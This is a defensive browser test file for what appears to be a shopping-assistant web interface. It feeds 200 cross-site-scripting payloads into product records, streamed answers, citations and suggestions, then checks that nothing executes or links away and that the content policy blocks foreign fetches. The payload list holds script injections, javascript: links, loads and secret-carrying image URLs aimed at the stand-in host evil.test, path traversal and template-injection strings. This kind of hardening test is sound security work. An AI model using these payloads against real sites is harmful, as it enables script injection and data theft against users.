// Hostile text in every place that text can come from: 200 payloads, none of which may run, ask
// another host, or lead a shopper away.

import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import {
  ask,
  kDesk,
  lastTurn,
  openBrowser,
  openPage,
  screenshot,
  whyNoBrowser,
} from "../support/browser.js";
import { encode, kKettles } from "../support/sample.js";
import { startShopDouble } from "../support/shop_double.js";

const kPayloads = [
  '<img src=x onerror="alert(1)">',
  "<script>alert(1)</script>",
  "<script src=https://evil.test/x.js></script>",
  "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
  "<iframe src=//evil.test></iframe><object data=//evil.test></object>",
  '<a href="https://evil.test">x</a><form action=//evil.test><button>x</button></form>',
  "<style>@import '//evil.test/x.css';*{display:none}</style>",
  '<base href="//evil.test/"><meta http-equiv=refresh content="0;url=//evil.test">',
  "<link rel=prefetch href=//evil.test><video src=//evil.test onerror=alert(1)>",
  "<details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](https://evil.test/p/K20)",
  "[x](//evil.test/p/K20)",
  "[x](data:text/html,<script>alert(1)</script>)",
  "![x](https://evil.test/a.png?q=secret)",
  "[x][y] <https://evil.test> https://evil.test/?q=secret www.evil.test",
  "[y]: https://evil.test",
  "\u202egnp.exe \u0000\u2028\u2029\ufeff",
  "{{constructor.constructor('alert(1)')()}} ${alert(1)} `alert(1)`",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
];

const kWrappings = [
  (text) => text,
  (text) => `**${text}**`,
  (text) => `- ${text}`,
  (text) => `# ${text}`,
  (text) => `[${text}](/p/K20)`,
  (text) => `"> ${text}`,
  (text) => `'/></textarea></title>${text}`,
  (text) => `<!-- ${text} -->`,
  (text) => `\\${text} [1]`,
  (text) => text.toUpperCase(),
];

const kHostile = kWrappings.flatMap((wrap) => kPayloads.map(wrap));

function hostileProduct(words, index) {
  return {
    ...kKettles[0],
    id: `H${index}`,
    n: index + 1,
    title: words,
    brand: words,
    image_url: index % 2 ? "javascript:alert(1)" : "/images/H.svg",
    url: "javascript:alert(1)",
    link: "javascript:alert(1)",
    attributes: Object.fromEntries(kHostile.map((text) => [text, text])),
    description: kHostile.join("\n"),
    categories: [words],
    locale: words,
    was_price: { amount: 1, currency: words },
  };
}

function hostileAnswer(products, withTable) {
  const text = kHostile.join("\n\n");
  return [
    [
      "start",
      {
        id: text,
        conversation_id: text,
        intents: ["PRODUCT_COMPARISON"],
        explanation: text,
        filters: {
          brands: [text],
          not: [text],
          location: text,
          attributes: [{ name: text, values: [text] }],
          ranges: [{ attribute: text, unit: text, min: 1 }],
        },
      },
    ],
    ["products", { items: [...products, { ...kKettles[0], id: "../../evil" }] }],
    ["handoff", { kind: text, contact: { title: text, text, link: "javascript:alert(1)" } }],
    ...kHostile.map((words) => ["delta", { text: `${words}\n\n` }]),
    ...kHostile.map((quote, index) => ["citation", { n: index + 1, product_id: quote, quote }]),
    ...(withTable ? [["table", { columns: [text, text], rows: [[text, text]] }]] : []),
    ["suggestions", { items: kPayloads.slice(0, 4) }],
    ["done", { timings: { [text]: 1 }, answer_step: text, grounded: { [text]: 1, kept: 1 } }],
  ];
}

describe("hostile text", { skip: whyNoBrowser() }, () => {
  let browser;
  let double;
  let withTable = true;

  before(async () => {
    browser = await openBrowser();
    double = await startShopDouble();
    const products = kPayloads.map(hostileProduct);
    double.products = { H0: products[0] };
    double.search = { items: products, facets: { brands: kPayloads.map((value) => ({ value })) } };
    double.answer = () => encode(hostileAnswer(products, withTable));
  });

  after(async () => {
    await browser?.close();
    await double?.close();
  });

  test("stays text: nothing runs, nothing is asked, no way leads off", async () => {
    assert.equal(kHostile.length, 200);
    const { page, context, problems } = await openPage(browser, {
      origin: double.origin,
      size: kDesk,
    });
    await page.goto("/");
    await ask(page, kPayloads.join("\n").slice(0, 1900));
    const turn = await lastTurn(page);
    await turn.locator(".sources summary").click();
    const hosts = await page
      .locator("a")
      .evaluateAll((links) => links.map(({ href }) => new URL(href).host));
    assert.deepEqual(new Set(hosts), new Set([new URL(double.origin).host]));
    await expectOnlyOwnElements(turn);
    assert.ok((await turn.innerText()).includes("<script>alert(1)</script>"), "shown as it is");
    assert.equal(await turn.locator(".card").count(), kPayloads.length);
    await screenshot(page, "double-1280-light-9-hostile");
    await checkWindows(page);

    await page.goto("/p/H0");
    await page.locator(".product-title").waitFor();
    await expectOnlyOwnElements(page.locator("#product"));
    assert.equal(await page.locator(".attributes tr").count(), kHostile.length);
    for (const path of ["/?product=%3Cimg%20src%3Dx%3E", "/p/%3Cscript%3E", "/p/..%2f..%2fv1"]) {
      await page.goto(path);
      await page.locator(".turn, .empty").first().waitFor();
    }
    assert.deepEqual(problems, []);
    await context.close();
  });

  /// The comparison of hostile records, and the history with hostile titles.
  async function checkWindows(page) {
    withTable = false;
    await ask(page, kPayloads[0]);
    await page.locator(".turn").nth(1).waitFor();
    const turn = await lastTurn(page);
    await expectOnlyOwnElements(turn);
    assert.ok((await turn.locator(".compare tbody tr").count()) > 3, "records side by side");
    await turn.locator(".actions .button-quiet").click();
    assert.ok((await page.locator("dialog .compare tbody tr").count()) > 150);
    await expectOnlyOwnElements(page.locator("dialog .compare-holder"));
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: "Conversations" }).click();
    await page.locator("dialog .history-item").first().waitFor();
    await expectOnlyOwnElements(page.locator("dialog .history"));
    await page.keyboard.press("Escape");
    withTable = true;
  }

  async function expectOnlyOwnElements(locator) {
    const known =
      "a article bdi br button circle details div el g h1 h2 img li ol p path q s section span " +
      "strong summary svg table tbody td th thead tr ul";
    const found = await locator.evaluate((root) => [
      ...new Set([...root.querySelectorAll("*")].map((node) => node.localName)),
    ]);
    const foreign = found.filter((name) => !known.split(" ").includes(name));
    assert.deepEqual(foreign, []);
    const handlers = await locator.evaluate((root) =>
      [...root.querySelectorAll("*")].flatMap((node) =>
        node.getAttributeNames().filter((name) => /^on|^style$|^srcdoc$/.test(name)),
      ),
    );
    assert.deepEqual(handlers, []);
  }

  test("the policy itself would stop markup, inline script and foreign requests", async () => {
    const { page, context, problems } = await openPage(browser, {
      origin: double.origin,
      expected: /./,
    });
    await page.goto("/");
    const outcome = await page.evaluate(async () => {
      const attempt = async (act) => {
        try {
          await act();
          return "done";
        } catch {
          return "stopped";
        }
      };
      return [
        await attempt(() => {
          document.body.innerHTML = "<b>x</b>";
        }),
        await attempt(() => fetch("https://evil.test/")),
      ];
    });
    assert.deepEqual(outcome, ["stopped", "stopped"]);
    assert.ok(
      problems.every((problem) => problem.startsWith("policy:")),
      problems.join("\n"),
    );
    await context.close();
  });
});
